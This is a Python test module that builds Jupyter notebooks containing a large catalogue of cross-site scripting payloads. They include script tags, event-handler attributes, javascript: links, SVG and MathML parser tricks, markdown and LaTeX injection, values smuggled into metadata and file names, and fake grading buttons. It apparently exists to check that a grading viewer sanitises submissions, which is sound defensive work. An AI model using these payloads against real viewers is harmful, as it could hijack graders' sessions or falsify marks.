"""What a submission may try in the browser of the person who marks it: each entry, if a page let it, calls `run()`.

A builder returns a notebook.  Sources: OWASP's cheat sheets, the tests of DOMPurify and ammonia, nbconvert's
templates.
"""

import base64

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
ELSEWHERE = "https://elsewhere.example"


def _shown(data: dict, metadata: dict | None = None, **more) -> NotebookNode:
    """A notebook whose only cell has one output."""
    output = from_dict({"output_type": "display_data", "data": data, "metadata": metadata or {}, **more})
    return _notebook(new_code_cell("show()", outputs=[output]))


def _notebook(*cells) -> NotebookNode:
    return new_notebook(cells=list(cells))


def _html(html: str) -> NotebookNode:
    return _shown({"text/html": html})


def _written(markdown: str, attachments: dict | None = None) -> NotebookNode:
    cell = new_markdown_cell(markdown, metadata={"nbgrader": {"grade_id": "answer-why", "grade": True, **WRITTEN}})
    if attachments:
        cell["attachments"] = attachments
    return _notebook(cell)


WRITTEN = {"solution": True, "locked": False, "points": 2, "score": 0, "schema_version": 3, "task": False}
B64 = base64.b64encode(b"<script>top.run()</script><script>parent.run()</script>").decode()
SVG_B64 = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>').decode()

HTML = {
    "script": "<script>run()</script>",
    "script, capitals and a space": "<SCRIPT >run()</SCRIPT >",
    "script, inside another": "<scr<script></script>ipt>run()</scr<script></script>ipt>",
    "script, never closed": "<script>run()//",
    "image error": "<img src=x onerror=run()>",
    "image error, slashes": '<img/src="x"/onerror=run()>',
    "image error, entities": "<img src=x onerror=&#114;un()>",
    "image load": f"<img src='data:image/png;base64,{PIXEL}' onload=run()>",
    "image in a picture element": "<picture><source srcset=x><img src=x onerror=run()></picture>",
    "sound error": "<audio src=x onerror=run()></audio>",
    "film with a source": "<video><source src=x onerror=run()></video>",
    "hover": "<b onmouseover=run()>hover here</b>",
    "pointer": "<p onpointerenter=run()>hover here</p>",
    "click": "<p onclick=run()>click here</p>",
    "focus": "<input autofocus onfocus=run()>",
    "focus by tabindex": "<p tabindex=0 autofocus onfocus=run()>x</p>",
    "details": "<details open ontoggle=run()><summary>x</summary>y</details>",
    "marquee": "<marquee onstart=run()>x</marquee>",
    "animation": "<style>@keyframes a{to{left:0}}</style><p style='animation:a 1ms' onanimationstart=run()>x</p>",
    "link": "<a href='javascript:run()'>x</a>",
    "link, tab inside": "<a href='java\tscript:run()'>x</a>",
    "link, entity inside": "<a href='java&#115;cript&colon;run()'>x</a>",
    "link, control character in front": "<a href='\x01javascript:run()'>x</a>",
    "link, mixed case": "<a href='JaVaScRiPt:run()'>x</a>",
    "link, opens a file that was handed in": "<a href='evil.html'>x</a>",
    "link, of an area": (
        "<img src=x usemap=#m width=9 height=9><map name=m><area shape=default href='javascript:run()'></map>"
    ),
    "form": "<form action='javascript:run()'><button>x</button></form>",
    "form, by the button": "<form><button formaction='javascript:run()'>x</button></form>",
    "form, by an image": "<form><input type=image src=x formaction='javascript:run()'></form>",
    "form, sends elsewhere": f"<form action='{ELSEWHERE}/log-in'><input name=p><button>log in again</button></form>",
    "frame with a document": "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
    "frame with a script": "<iframe src='javascript:parent.run()'></iframe>",
    "object": "<object data='javascript:parent.run()'></object>",
    "object, broken": "<object data=x onerror=run()></object>",
    "embedded": "<embed src='javascript:parent.run()'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "base": f"<base href='{ELSEWHERE}/'><a href='next'>x</a>",
    "style sheet": f"<link rel=stylesheet href='{ELSEWHERE}/x.css'>",
    "style that loads": f"<p style='background:url({ELSEWHERE}/x.png)'>x</p>",
    "style that loads, in a style element": f"<style>body{{background:url({ELSEWHERE}/x.png)}}</style>",
    "picture from elsewhere": f"<img src='{ELSEWHERE}/who-looked.png'>",
    "drawing load": "<svg onload=run()></svg>",
    "drawing with a script": "<svg><script>run()</script></svg>",
    "drawing with a script from data": "<svg><script href='data:text/javascript,run()'></script></svg>",
    "drawing with a link": "<svg width=99 height=30><a xlink:href='javascript:run()'><text y=20>x</text></a></svg>",
    "drawing with an animated link": (
        "<svg width=99 height=30><a><animate attributeName=href values='javascript:run()' begin=0s fill=freeze />"
        "<text y=20>x</text></a></svg>"
    ),
    "drawing with an animation": "<svg><animate onbegin=run() attributeName=x dur=1s></svg>",
    "drawing with a set": "<svg><set onbegin=run() attributeName=x to=1></svg>",
    "drawing with an image": "<svg><image href=x onerror=run()></svg>",
    "drawing with a foreign object": (
        "<svg><foreignObject><iframe srcdoc='<script>parent.run()</script>'></foreignObject></svg>"
    ),
    "drawing that uses another": f"<svg><use href='{ELSEWHERE}/x.svg#a'></use></svg>",
    "drawing, through its style": "<svg><style><img src=x onerror=run()></style></svg>",
    "drawing, through its title": "<svg></p><title><a id='</title><img src=x onerror=run()>'>",
    "formula, through a table": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=run()&gt;'>"
        "<img src=x onerror=run()>"
    ),
    "formula, through an annotation": (
        "<math><annotation-xml encoding='text/html'><img src=x onerror=run()></annotation-xml></math>"
    ),
    "not for browsers with scripts": "<noscript><p title='</noscript><img src=x onerror=run()>'>",
    "text area that ends early": "<textarea></textarea><img src=x onerror=run()>",
    "comment that ends early": "<!--><img src=x onerror=run()>-->",
    "template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=run()></template></div>",
    "select": "<select><option><img src=x onerror=run()></select><img src=x onerror=run()>",
    "closes every element": "</div></div></div></div></main></body><img src=x onerror=run()>",
    "a button like nbgrader's": "<div class='nbgrader_cell'><button class='full-credit'>Show the plot</button></div>",
}
MARKDOWN = {
    "link": "[x](javascript:run())",
    "link by reference": "[x][a]\n\n[a]: javascript:run()",
    "link in angle brackets": "[x](<javascript:run()>)",
    "link by itself": "<javascript:run()>",
    "link on a picture": f"[![x](data:image/png;base64,{PIXEL})](javascript:run())",
    "link, entity inside": "[x](javascript&colon;run())",
    "picture with a quote": '![x](y" onerror="run())',
    "picture with a title": '![x](y "t\' onerror=run() ")',
    "HTML": "<img src=x onerror=run()>",
    "a button like nbgrader's": "<button class='full-credit'>Show the plot</button>",
    "HTML in a paragraph": "so <b onmouseover=run()>this</b>",
    "HTML block": "<div>\n<script>run()</script>\n</div>",
    "HTML in a table": "| a |\n|---|\n| <img src=x onerror=run()> |",
    "HTML in a formula": "$<img src=x onerror=run()>$",
    "HTML in an environment": "\\begin{equation}<img src=x onerror=run()>\\end{equation}",
    "HTML in \\text": "$\\text{<img src=x onerror=run()>}$",
    "\\href": "$\\href{javascript:run()}{x}$",
    "\\href in a display": "$$\\href{javascript:run()}{x^2}$$",
    "\\style and \\class": '$\\style{background:url(x)}{\\class{a" onclick="run()}{x}}$ \\require{html}',
    "\\cssId": "$\\cssId{base_url}{y}$",
    "\\unicode": "$\\unicode{x<img src=x onerror=run()>}$",
    "fence with a language": '```"><img src=x onerror=run()>\nx\n```',
    "diagram": "```mermaid\ngraph TD\nA[<img src=x onerror=run()>]\n```",
    "heading": '# a" onclick="run()',
}


def inputs() -> dict[str, NotebookNode]:
    """Return {what it is: a notebook}."""
    found = {f"output, HTML: {name}": _html(html) for name, html in HTML.items()}
    found |= {f"answer, Markdown: {name}": _written(text) for name, text in MARKDOWN.items()}
    found |= {
        f"output, Markdown: {name}": _shown({"text/markdown": MARKDOWN[name]}) for name in ("link", "HTML", "\\href")
    }
    found |= {
        "output, width of a PNG": _shown(
            {"image/png": PIXEL}, {"image/png": {"width": "1 onerror=run() onload=run()"}}
        ),
        "output, width without its kind": _shown({"image/png": PIXEL}, {"width": "1 onload=run()"}),
        "output, height of a JPEG": _shown({"image/jpeg": "AAAA"}, {"image/jpeg": {"height": "1 onerror=run()"}}),
        "output, text of a PNG": _shown({"image/png": PIXEL}, {"image/png": {"alt": 'x" onload="run()'}}),
        "output, data of a PNG": _shown({"image/png": 'AAAA" onerror="run()'}),
        "output, name of a file": _shown({"image/png": PIXEL}, {"filenames": {"image/png": 'x" onerror="run()'}}),
        "output, SVG": _shown({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='run()'/>"}),
        "output, SVG that closes its image": _shown({"image/svg+xml": '"><img src=x onerror=run()>'}),
        "output, HTML in a frame of its own": _shown(
            {"text/html": "<script>parent.run(); top.run()</script>"}, {"text/html": {"isolated": True}}
        ),
        "output, JavaScript": _shown({"application/javascript": "run()"}),
        "output, JavaScript that closes itself": _shown(
            {"application/javascript": "</script><img src=x onerror=run()>"}
        ),
        "output, diagram": _shown({"text/vnd.mermaid": "</pre><img src=x onerror=run()><pre>"}),
        "output, diagram of text": _shown({"text/vnd.mermaid": "graph TD\nA[&lt;img src=x onerror=run()&gt;]"}),
        "output, LaTeX": _shown({"text/latex": "$\\href{javascript:run()}{x}$"}),
        "output, LaTeX with HTML": _shown({"text/latex": "\\text{<img src=x onerror=run()>}"}),
        "output, PDF": _shown({"application/pdf": '"><img src=x onerror=run()>'}),
        "output, widget": _with_widget(),
        "output, plain": _shown({"text/plain": "<img src=x onerror=run()>"}),
        "output, link of a terminal": _shown({"text/plain": "\x1b]8;;javascript:run()\x07x\x1b]8;;\x07"}),
        "output, stream": _notebook(
            new_code_cell("1", outputs=[new_output("stream", text="<img src=x onerror=run()>")])
        ),
        "output, error": _notebook(
            new_code_cell(
                "1",
                outputs=[
                    new_output(
                        "error",
                        ename="<img src=x onerror=run()>",
                        evalue="<script>run()</script>",
                        traceback=["\x1b[31m<img src=x onerror=run()>\x1b[0m"],
                    )
                ],
            )
        ),
        "raw cell": _notebook(new_raw_cell("<img src=x onerror=run()>")),
        "raw cell, said to be HTML": _notebook(
            new_raw_cell("<img src=x onerror=run()>", metadata={"raw_mimetype": "text/html", "format": "text/html"})
        ),
        "code": _notebook(new_code_cell("</pre><img src=x onerror=run()>")),
        "attachment, its kind": _written("![x](attachment:a)", {"a": {'image/png"><img src=x onerror=run()>': "AAAA"}}),
        "attachment, its data": _written("![x](attachment:a)", {"a": {"image/png": 'AA" onerror="run()'}}),
        "attachment, its name": _written(
            '![x](attachment:a"onerror="run().png)', {'a"onerror="run().png': {"image/png": "AAAA"}}
        ),
        "attachment, SVG": _written("![x](attachment:a)", {"a": {"image/svg+xml": SVG_B64}}),
        "cell id": _changed(lambda nb: nb.cells[0].update(id='a" onclick="run()" onmouseover="run()')),
        "tags": _changed(lambda nb: nb.cells[0].metadata.update(tags=['a" onclick="run()" onmouseover="run()'])),
        "tags that are classes": _changed(lambda nb: nb.cells[0].metadata.update(tags=["a full-credit nbgrader_cell"])),
        "execution count": _changed(lambda nb: nb.cells[0].update(execution_count="1]<img src=x onerror=run()>")),
        "title of the notebook": _changed(lambda nb: nb.metadata.update(title="</title><img src=x onerror=run()>")),
        "name of the language": _changed(
            lambda nb: nb.metadata.update(language_info={"name": "<img src=x onerror=run()>", "file_extension": ".py"})
        ),
        "name of the kernel": _changed(
            lambda nb: nb.metadata.update(kernelspec={"name": "x", "display_name": "<img src=x onerror=run()>"})
        ),
        "id of a graded cell": _changed(
            lambda nb: nb.cells[0].metadata.update(
                nbgrader={"grade_id": 'x"><img src=x onerror=run()>', "grade": True, **WRITTEN}
            )
        ),
        "state of widgets": _changed(
            lambda nb: nb.metadata.update(
                widgets={"application/vnd.jupyter.widget-state+json": {"x": "<!--<script>", "y": "run()"}}
            )
        ),
    }
    return found


def _changed(change) -> NotebookNode:
    nb = _notebook(new_code_cell("1"), new_markdown_cell("x"))
    change(nb)
    return nb


def _with_widget() -> NotebookNode:
    nb = _shown({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2, "run": "run()"}})
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {"m": {}}}}
    return nb
